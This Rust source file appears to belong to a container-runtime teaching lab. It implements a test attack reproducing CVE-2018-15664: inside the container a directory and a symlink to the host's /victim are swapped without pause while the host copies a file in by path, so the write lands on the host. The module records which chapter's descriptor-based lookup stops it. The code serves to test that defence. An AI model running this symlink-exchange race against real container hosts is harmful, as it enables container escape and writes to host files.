//! A copy into the container that is led out of it, by a link that was a directory just now.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use process::{Error, Result, Step, c_string};

use crate::attack::attacker::{has_come_to_an_end, tell_host};
use crate::attack::cell::Finding;
use crate::attack::entrant::{Attacked, ENTER};
use crate::attack::places::{IMAGE, LAB};
use crate::attack::sys;
use crate::attack::target::Attack;

/// The container's directory that is copied to, the link that takes its place, and the
/// host's directory that the link leads to.
const HERE: &str = "/here";
const THERE: &str = "/there";
const VICTIM: &str = "/victim";

/// What is copied.
const NOTE: &str = "note";

/// How long the host goes on copying by path, and how many times by `lab cp`.
const PATIENCE: Duration = Duration::from_secs(5);
const TRIES: usize = 20;

pub const ATTACK: Attack = Attack {
    name: "copy",
    title: "lead a copy out by a link",
    tries: "exchange a directory and a link to the host's /victim, all the time, while \
            somebody copies files into the directory.",
    why: "to look whether it is a link, and then to copy by path, is to look up the path twice: \
          the second time by /proc/PID/root, the link may be there, and leads to the host. \
          Chapter 10 looks it up once, by a descriptor, with the container's root as the root.",
    reference: "CVE-2018-15664, openat2(2): RESOLVE_IN_ROOT",
    stopped_by: 10,
    run: |target| {
        let attacked = match Attacked::start(target)? {
            Ok(attacked) => attacked,
            Err(why_not) => return Ok(why_not),
        };
        fs::create_dir(VICTIM).step(|| format!("create {VICTIM}"))?;
        let copied = if target.chapter.number < ENTER {
            copy_by_path(&attacked.name)
        } else {
            copy_by_lab(&attacked.name)
        };
        let is_led_out = has_victim();
        attacked.end()?;
        fs::remove_dir_all(VICTIM).step(|| format!("remove {VICTIM}"))?;
        // Before chapter 7 they are the image's.
        for name in [HERE, THERE] {
            let path = Path::new(IMAGE).join(&name[1..]);
            let _ = fs::remove_file(&path).or_else(|_| fs::remove_dir_all(&path));
        }
        let copies = copied?;
        Ok(if is_led_out {
            Finding::Works("a file was written on the host".into())
        } else {
            Finding::Blocked(format!("{copies}, none of them on the host"))
        })
    },
    inside: |_| exchange(),
};

fn has_victim() -> bool {
    Path::new(VICTIM).join(NOTE).exists()
}

/// As people did before: by the way that root has into everybody's files.
fn copy_by_path(name: &str) -> Result<String> {
    let root = format!("/proc/{}/root", process::find(name)?.pid);
    let directory = Path::new(&root).join(&HERE[1..]);
    let start = Instant::now();
    let mut count = 0;
    while !has_victim() && start.elapsed() < PATIENCE {
        if fs::symlink_metadata(&directory).is_ok_and(|it| it.is_dir()) {
            count += usize::from(fs::write(directory.join(NOTE), "led out").is_ok());
        }
    }
    Ok(format!("{count} copies were made"))
}

fn copy_by_lab(name: &str) -> Result<String> {
    let note = Path::new("/tmp").join(NOTE);
    fs::write(&note, "led out").step(|| format!("write {}", note.display()))?;
    let (mut count, mut refused) = (0, String::new());
    for _ in 0..TRIES {
        let mut command = Command::new(LAB);
        command.arg("cp").arg(&note).arg(format!("{name}:{HERE}/{NOTE}"));
        let output = command.output().step(|| "run lab cp")?;
        if output.status.success() {
            count += 1;
        } else {
            refused = String::from_utf8_lossy(&output.stderr).trim().to_owned();
        }
    }
    match count {
        0 => Err(Error::new(format!("nothing can be copied: {refused}"))),
        _ => Ok("copies were made".to_owned()),
    }
}

/// Goes on until the host has had enough.
fn exchange() -> Result<String> {
    fs::create_dir(HERE).step(|| format!("create {HERE}"))?;
    symlink(VICTIM, THERE).step(|| format!("link {THERE}"))?;
    let (here, there) = (c_string(HERE.into())?, c_string(THERE.into())?);
    tell_host("")?;
    while !has_come_to_an_end()? {
        for _ in 0..100 {
            sys::exchange(&here, &there).step(|| "exchange a directory and a link")?;
        }
    }
    Ok("exchanged".to_owned())
}
